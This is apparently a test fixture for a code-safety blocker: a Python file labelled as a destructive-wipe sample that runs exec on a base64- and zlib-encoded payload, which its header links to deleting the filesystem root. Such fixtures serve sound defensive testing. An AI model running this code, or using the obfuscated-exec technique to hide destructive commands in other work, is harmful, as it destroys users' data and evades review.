# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/rmtree_root.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwlxTEKgDAMBdC9pwh1UZB6AjeP4O70tYHWSJIi3l7B5b2OFhQ4jDyD7iwFtPOHPeaoKXC9RJ0sN+cSwn/S6gr0cYoj8XGKYoOqqM2rNgwvJ3Qekg==')))
